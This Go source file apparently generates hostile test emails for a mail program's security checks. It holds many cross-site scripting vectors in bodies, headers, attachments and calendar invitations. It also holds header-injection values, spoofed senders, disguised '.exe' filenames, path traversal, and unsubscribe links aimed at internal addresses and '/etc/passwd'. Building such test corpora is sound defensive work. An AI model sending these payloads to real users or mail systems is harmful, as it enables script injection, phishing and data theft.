package hostile

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// texts are plain text that becomes links, quotations and paragraphs.
func texts(c *class) {
	for _, v := range []variant{
		{"markup", `<img src=CANARY onerror="RUN"><script>RUN</script>`},
		{"address in markup", `<a href="javascript:RUN">http://a.example</a>`},
		{"mail address and a question", `a@a.co?]<img/src='CANARY'/onerror=BARE>`},
		{"mail address in brackets", `<"onmouseover=RUN x="@a.example> <a@b.example"onfocus=BARE autofocus>`},
		{"quote after an address", `http://a.example/"onmouseover="RUN" autofocus onfocus="RUN`},
		{"bracket after an address", `http://a.example/><img src=CANARY>`},
		{"entity in an address", `http://a.example/&quot;onfocus=BARE&lt;img src=CANARY&gt;`},
		{"backtick in an address", "http://a.example/`onfocus=BARE`"},
		{"address in an address", `http://a.example/http://b.example/"><img src=CANARY>@c.example`},
		{"javascript before", `javascript:RUN//http://a.example javascript:alert(1)`},
		{"javascript with an at", `javascript:RUN@a.example vbscript:x@b.example`},
		{"data", `data:text/html,<script>RUN</script> data:text/html;base64,PHNjcmlwdD4=`},
		{"scheme in upper case", `HTTP://A.EXAMPLE/<IMG SRC=CANARY> jAvAsCrIpT:RUN`},
		{"user and host", `http://www.bank.example@evil.example/ https://a:b@c.example`},
		{"look-alike", `https://аррӏе.com/ https://bank.example․evil.example http://ⓔvil.example`},
		{"shapeless letters", "http://bank.example/\u3164\u115f\u2800evil http://a\u200bb.example http://a\u00adb.example"},
		{"directions", "http://a.example/\u202egpj.exe \u2066http://b.example\u2069"},
		{"controls", "http://a\x00b.example \x1b]0;CANARY\x07 \x1b[31mred \x08\x08\x7f"},
		{"line separators", "http://a.example\u2028<img src=CANARY>\u2029http://b.example\x0bx\x0cy\u0085z"},
		{"nothing but signs", `http:// https://? http://. mailto:@ @@@ www. www.. http://[::1]:x/ http://%00/`},
		{"number hosts", `http://2130706433/ http://0x7f.1/ http://[::ffff:127.0.0.1]/ http://127.1/`},
		{"template words", `{{.Token}} {{template "content"}} {{define "x"}} <%= x %> ${RUN}`},
		{"cid and mid", `cid:a@b.example mid:x@y.example news:a@b.example`},
		{"tracking ids", `www.a.example/?"x=<img src=CANARY>&y='onfocus='BARE`},
		{"quotes", "> <script>RUN</script>\n>> <img src=CANARY>\n-- \n<script>RUN</script>"},
		{"markdown", `[x](javascript:RUN) ![x](CANARY) <CANARY>`},
		{"brackets around", `(http://a.example/(x)<img src=CANARY>) [http://b.example/]<img src=CANARY>`},
		{"html as text", `<!doctype html><html><body onload="RUN"><img src=CANARY></body></html>`},
	} {
		c.mail(v.name, "Content-Type: text/plain; charset=utf-8", v.text+"\n")
		if strings.ContainsAny(v.text, ">\n") {
			c.mail(v.name+", flowed", "Content-Type: text/plain; charset=utf-8; format=flowed; delsp=yes", strings.ReplaceAll(v.text, " ", " \n")+"\n")
		}
	}
	for _, kind := range []string{"text/enriched", "text/richtext", "text/xml", "application/xhtml+xml", "text/x-server-parsed-html", "text/html-sandboxed", "text/markdown", "text/css", "text/javascript", "text/cache-manifest", "text/vtt", "TEXT/HTML", "text/HTML;x=<script>", "text/ html", "text/html\x00", "text"} {
		c.mail("as "+kind, "Content-Type: "+kind, attack+`<bold><x-color><param>"onload=BARE</param></x-color>`)
	}
}

// fieldsShown are header fields that mail programs show.
var fieldsShown = []string{"From", "Sender", "Reply-To", "To", "Cc", "Subject", "Date", "Message-ID", "List-Id", "List-Unsubscribe", "List-Unsubscribe-Post", "List-Post", "List-Help", "List-Archive",
	"Organization", "User-Agent", "X-Mailer", "Comments", "Keywords", "Authentication-Results", "Received", "Received-SPF", "DKIM-Signature", "Disposition-Notification-To", "Return-Path",
	"Content-Language", "Content-Description", "Content-Location", "Importance", "X-Priority", "Face", "X-Face", "BIMI-Location", "Autocrypt", "Resent-From", "In-Reply-To", "References", "Thread-Topic"}

// inField are what stands in them.
var inField = []string{
	`<img src=CANARY onerror="RUN">`, `"<script>RUN</script>" <x@evil.example>`, `=?utf-8?q?=3Cimg_src=3DCANARY_onerror=3D=22RUN=22=3E?= <y@evil.example>`,
	`<javascript:RUN>, <CANARY>, <data:text/html,x>, <"onfocus=BARE@evil.example>`, `=?utf-8?b?B64?=`, "x\x00\x1b[2J\u202e\u2066\u3164 {{.Token}} </title></style></textarea><img src=CANARY>",
}

// headers are messages whose fields, shown in pages and lists, hold markup and addresses.
func headers(c *class) {
	for i, field := range fieldsShown {
		for _, v := range []int{i % len(inField), (i + 1) % len(inField)} {
			value := c.arm(strings.ReplaceAll(inField[v], "B64", base64.StdEncoding.EncodeToString([]byte(c.arm(`"><img src=CANARY>`+"\r\nBcc: x@evil.example")))))
			name := fmt.Sprintf("%s %d", field, v+1)
			head := c.head(name)
			lines := strings.SplitAfter(head, "\n")
			for i, l := range lines {
				if strings.HasPrefix(l, field+":") {
					lines[i] = "" // there is one of each
				}
			}
			c.add(Message{Name: name}, strings.Join(lines, "")+field+": "+value+"\nContent-Type: text/plain\n\n"+value+"\n")
		}
	}
	for _, v := range []variant{
		{"folded markup", "Subject: <img\n src=CANARY\n\tonerror=BARE>"},
		{"bare carriage return", "Subject: x\rBcc: y@evil.example\rContent-Type: text/html"},
		{"encoded line end", "Subject: =?utf-8?q?x=0D=0ASet-Cookie:_a=3Db=0D=0A=0D=0A<script>RUN</script>?="},
		{"encoded nulls and controls", "Subject: =?utf-8?q?x=00=08=1B[31m=E2=80=AE?="},
		{"torn words", "Subject: =?utf-8?q?<img_src=3D?= =?utf-8?q?CANARY>?="},
		{"word in UTF-7", "Subject: =?utf-7?q?+ADw-script+AD4-RUN?="},
		{"word in an unknown set", "Subject: =?x-<script>?q?<script>RUN</script>?="},
		{"field after field", "Subject: a\nSubject: <script>RUN</script>\nFrom: <script>RUN</script> <a@evil.example>"},
		{"name that is another address", "From: \"ceo@bank.example\" <x@evil.example>\nReply-To: y@evil.example"},
		{"name with brackets", "From: \"Bank <ceo@bank.example>\" <x@evil.example>"},
		{"group", "From: <script>RUN</script>: a@evil.example, b@evil.example;\nTo: <img src=CANARY>:;"},
		{"domain literal", "From: x@[<img src=CANARY>]\nSender: \"><img src=CANARY>\"@evil.example"},
		{"date that is markup", "Date: <script>RUN</script>"},
		{"date far away", "Date: Thu, 12 Nov 99999999999999 25:61:61 +9999 (<img src=CANARY>)"},
		{"unsubscribe to us", "List-Unsubscribe: <https://127.0.0.1/>, <http://169.254.169.254/latest/>, <file:///etc/passwd>, <javascript:RUN>, <mailto:x@y.example?bcc=z@y.example&attach=/etc/passwd>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click"},
		{"authentication that is forged", "Authentication-Results: mail.example.org; dmarc=pass; dkim=pass header.d=bank.example <script>RUN</script>"},
	} {
		c.mail(v.name, v.text+"\nContent-Type: text/plain", "x\n")
	}
}

// fileNames are names of files that lie, climb, or are markup.
var fileNames = []variant{
	{"markup", `"<img src=CANARY onerror=BARE>.png"`}, {"quote", `"x\" onmouseover=\"RUN.png"`}, {"path", `"../../../../etc/passwd"`}, {"windows path", `"C:\\Windows\\x.exe"`},
	{"direction", "\"invoice\u202efdp.exe\""}, {"shapeless", "\"invoice.pdf\u3164\u3164\u3164\u3164\u3164\u3164\u3164\u3164.exe\""}, {"many spaces", `"invoice.pdf` + strings.Repeat(" ", 200) + `.exe"`},
	{"dot at the end", `"invoice.exe."`}, {"dots and spaces at the end", `"invoice.exe. . "`}, {"hidden", `".htaccess"`}, {"nothing but dots", `"..."`}, {"device", `"CON.txt"`}, {"stream", `"x.txt:y.exe"`},
	{"controls", "\"x\x01\x1b[2J\x7f.txt\""}, {"encoded line end", `"=?utf-8?q?x=0D=0ASet-Cookie:_a=3Db=0D=0A.html?="`}, {"long", `"` + strings.Repeat("x", 5000) + `.exe"`}, {"template words", `"{{.Token}}.txt"`},
	{"percent", `"%2e%2e%2f%00%0d%0aX-Y: z.html"`}, {"semicolons", `"x.txt; filename=y.exe; filename*=utf-8''z.exe"`},
}

// fileTypes are contents that browsers act upon, under types that say so and types that lie.
var fileTypes = []struct{ name, kind, content string }{
	{"html", "text/html; charset=utf-7", attack}, {"html as text", "text/plain", attack}, {"html as png", "image/png", attack}, {"html as pdf", "application/pdf", attack},
	{"html as nothing", "", attack}, {"html as unknown", "application/x-unknown", attack}, {"html as octets", "application/octet-stream", attack}, {"html as zip", "application/zip", attack},
	{"xhtml", "application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><script>RUN</script></html>`}, {"svg", "image/svg+xml", svgFile}, {"svg as png", "image/png", svgFile},
	{"svg as svgz", "image/svg+xml; x=y", "\x1f\x8b\x08" + svgFile}, {"xml", "text/xml", `<?xml-stylesheet type="text/xsl" href="CANARY"?><x/>`}, {"xslt", "application/xslt+xml", `<xsl:stylesheet/>`},
	{"rss", "application/rss+xml", `<rss><script xmlns="http://www.w3.org/1999/xhtml">RUN</script></rss>`}, {"script", "text/javascript", `RUN`}, {"wasm", "application/wasm", "\x00asm"},
	{"pdf", "application/pdf", "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.launchURL('CANARY'))>>>>endobj"}, {"pdf in html", "application/pdf", "<script>RUN</script>%PDF-1.7"},
	{"flash", "application/x-shockwave-flash", "FWS"}, {"java", "application/java-archive", "PK\x03\x04"}, {"mhtml", "multipart/x-mixed-replace; boundary=b", "--b\nContent-Type: text/html\n\n" + attack},
	{"manifest", "text/cache-manifest", "CACHE MANIFEST\nFALLBACK:\n/ CANARY"}, {"internet shortcut", "application/internet-shortcut", "[InternetShortcut]\nURL=file://evil.example/x"},
	{"vcard", "text/vcard", "BEGIN:VCARD\nFN:<script>RUN</script>\nPHOTO;VALUE=URI:CANARY\nURL:javascript:RUN\nEND:VCARD"}, {"type with markup", `x/"><script>RUN</script>`, "x"},
	{"type with a line end", "text/x\n y; a=\"\r\n\"", "x"}, {"type for a player", "application/smil", `<smil><img src="CANARY"/></smil>`},
}

// attachments are files.
func attachments(c *class) {
	part := func(name, fields, content string) {
		c.mail(name, "Content-Type: multipart/mixed; boundary=b", "--b\nContent-Type: text/plain\n\nsee there\n--b\n"+fields+"\n\n"+content+"\n--b--\n")
	}
	for _, v := range fileNames {
		part("name: "+v.name, "Content-Type: application/octet-stream; name="+v.text+"\nContent-Disposition: attachment; filename="+v.text, "x")
	}
	part("name: extended", "Content-Disposition: attachment; filename*=utf-8''%3Cimg%20src%3DCANARY%3E%0D%0A%00%E2%80%AE.html", "x")
	part("name: continued", "Content-Disposition: attachment; filename*0=\"<scr\"; filename*1=\"ipt>RUN</script>\"; filename*2*=%0d%0a", "x")
	for _, v := range fileTypes {
		kind := "Content-Type: " + v.kind + "\n"
		if v.kind == "" {
			kind = ""
		}
		part("type: "+v.name, kind+"Content-Disposition: inline; filename=x", v.content)
		part("type: "+v.name+", no name", strings.TrimSuffix(kind+"Content-Description: <script>RUN</script>", "\n"), v.content)
	}
	part("disposition with markup", "Content-Type: text/html\nContent-Disposition: <script>RUN</script>; filename=<img src=CANARY>", attack)
}

// nested are messages in messages, and parts that contradict each other.
func nested(c *class) {
	page := "Content-Type: text/html\n\n" + attack
	for _, v := range []struct{ name, fields, body string }{
		{"message", "Content-Type: message/rfc822", "Subject: <script>RUN</script>\nFrom: <img src=CANARY> <x@evil.example>\n" + page},
		{"message in a message", "Content-Type: message/rfc822", "Content-Type: message/rfc822\n\nSubject: <img src=CANARY>\n" + page},
		{"message in UTF-8", "Content-Type: message/global", "Subject: \u202e<script>RUN</script>\n" + page},
		{"message as a file with a name", "Content-Type: message/rfc822; name=\"<script>.html\"\nContent-Disposition: attachment; filename=x.html", page},
		{"message as text", "Content-Type: text/rfc822-headers", page},
		{"part of a message", "Content-Type: message/partial; id=x; number=1; total=1", page},
		{"external body", "Content-Type: message/external-body; access-type=URL; URL=\"CANARY\"", "Content-Type: text/html\nContent-ID: <a@b>\n\n"},
		{"report", "Content-Type: multipart/report; report-type=delivery-status; boundary=b", "--b\n" + page + "\n--b\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; <img src=CANARY>\n\n--b\n" + page},
		{"alternative of two pages", "Content-Type: multipart/alternative; boundary=b", "--b\nContent-Type: text/plain\n\nharmless\n--b\n" + page + "\n--b\nContent-Type: text/x-amp-html\n\n<script src=CANARY></script>\n--b--"},
		{"related with a start that lies", "Content-Type: multipart/related; boundary=b; start=\"<c>\"; type=\"text/plain\"", "--b\nContent-ID: <a>\nContent-Type: text/plain\n\nx\n--b\nContent-ID: <c>\n" + page + "\n--b--"},
		{"digest", "Content-Type: multipart/digest; boundary=b", "--b\n\nSubject: <script>RUN</script>\n" + page + "\n--b--"},
		{"signed", "Content-Type: multipart/signed; boundary=b; micalg=<script>; protocol=\"<img src=CANARY>\"", "--b\n" + page + "\n--b\nContent-Type: application/pgp-signature\n\n<script>\n--b--"},
		{"encrypted", "Content-Type: multipart/encrypted; boundary=b; protocol=\"application/pgp-encrypted\"", "--b\nContent-Type: application/pgp-encrypted\n\n<script>\n--b\n" + page + "\n--b--"},
		{"form data", "Content-Type: multipart/form-data; boundary=b", "--b\nContent-Disposition: form-data; name=\"<script>\"\n" + page + "\n--b--"},
		{"replacing", "Content-Type: multipart/x-mixed-replace; boundary=b", "--b\n" + page + "\n--b\n" + page + "\n--b--"},
		{"header set", "Content-Type: multipart/header-set; boundary=b", "--b\n" + page + "\n--b--"},
		{"boundary with markup", "Content-Type: multipart/mixed; boundary=\"<script>RUN</script>\"", "--<script>RUN</script>\n" + page},
		{"boundary without an end", "Content-Type: multipart/mixed; boundary=b", "before " + attack + "\n--b\n" + page},
		{"boundary that begins another", "Content-Type: multipart/mixed; boundary=b", "--b\nContent-Type: multipart/mixed; boundary=bb\n\n--bb\n" + page + "\n--bb--\n--b--"},
		{"two types", "Content-Type: text/plain\nContent-Type: text/html", attack},
		{"type in a comment", "Content-Type: text/(x)html (<script>)", attack},
		{"no header", "", attack},
		{"TNEF", "Content-Type: application/ms-tnef; name=winmail.dat\nContent-Disposition: attachment", "\x78\x9f\x3e\x22" + attack},
	} {
		c.mail(v.name, v.fields, v.body)
	}
}

// calendarFields are those of an event that are shown.
var calendarFields = []string{"SUMMARY", "LOCATION", "DESCRIPTION", "X-ALT-DESC;FMTTYPE=text/html", "URL", "ATTACH", "IMAGE;VALUE=URI", "CONFERENCE;VALUE=URI", "ORGANIZER;CN=\"V\"",
	"ORGANIZER;CN=x;DIR=\"V\"", "ATTENDEE;CN=\"V\"", "COMMENT", "CATEGORIES", "CONTACT", "STATUS", "UID", "DTSTART;TZID=\"V\"", "RRULE", "GEO", "RESOURCES", "RELATED-TO", "X-WR-CALNAME", "TZNAME"}

// calendars are invitations.
func calendars(c *class) {
	for i, field := range calendarFields {
		value := []string{`<img src=CANARY onerror=BARE>`, `javascript:RUN`, `CANARY`, `</script><script>RUN</script>`, `\n<svg onload=BARE>\,\;`, "\u202e{{.Token}}\u3164<b>"}[i%6]
		line := field + ":" + value
		if strings.Contains(field, "V\"") {
			line = strings.ReplaceAll(field, "\"V\"", `"`+strings.ReplaceAll(value, `"`, "'")+`"`) + ":mailto:<img src=CANARY>@evil.example"
		}
		event := "BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:<script>\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:hostile-" + fmt.Sprint(i) + "\nDTSTAMP:20261112T100000Z\nDTSTART:20261113T100000Z\nDTEND:20261113T110000Z\n" +
			"SUMMARY:a meeting\nORGANIZER:mailto:mallory@evil.example\nATTENDEE;RSVP=TRUE:mailto:demo@example.org\n" + line + "\nEND:VEVENT\nEND:VCALENDAR\n"
		name := strings.ReplaceAll(field, `"V"`, "V")
		c.mail(name, "Content-Type: multipart/alternative; boundary=b", "--b\nContent-Type: text/plain\n\nAn invitation\n--b\nContent-Type: text/calendar; method=REQUEST; charset=utf-8\n\n"+event+"--b--\n")
	}
	for _, v := range []variant{
		{"method with markup", "BEGIN:VCALENDAR\nMETHOD:<script>RUN</script>\nBEGIN:VEVENT\nEND:VEVENT\nEND:VCALENDAR"},
		{"rule without an end", "BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:x\nDTSTART:00010101T000000Z\nRRULE:FREQ=SECONDLY;INTERVAL=0;COUNT=999999999999;BYSECOND=" + strings.Repeat("1,", 5000) + "1\nEND:VEVENT\nEND:VCALENDAR"},
		{"zone that loops", "BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VTIMEZONE\nTZID:x\nBEGIN:STANDARD\nDTSTART:19700101T000000\nRRULE:FREQ=YEARLY\nTZOFFSETFROM:+9999\nTZOFFSETTO:-9999\nEND:STANDARD\nEND:VTIMEZONE\nBEGIN:VEVENT\nUID:x\nDTSTART;TZID=x:99991231T235959\nEND:VEVENT\nEND:VCALENDAR"},
		{"deep components", strings.Repeat("BEGIN:VCALENDAR\nBEGIN:VEVENT\n", 2000)},
		{"alarm that runs", "BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:x\nDTSTART:20261113T100000Z\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:file:///bin/sh\nTRIGGER:-PT1M\nEND:VALARM\nEND:VEVENT\nEND:VCALENDAR"},
		{"many people", "BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:x\nDTSTART:20261113T100000Z\n" + strings.Repeat("ATTENDEE;CN=<img src=CANARY>:mailto:a@b.example\n", 3000) + "END:VEVENT\nEND:VCALENDAR"},
	} {
		c.mail(v.name, "Content-Type: text/calendar; method=REQUEST; charset=utf-8", v.text+"\n")
	}
}
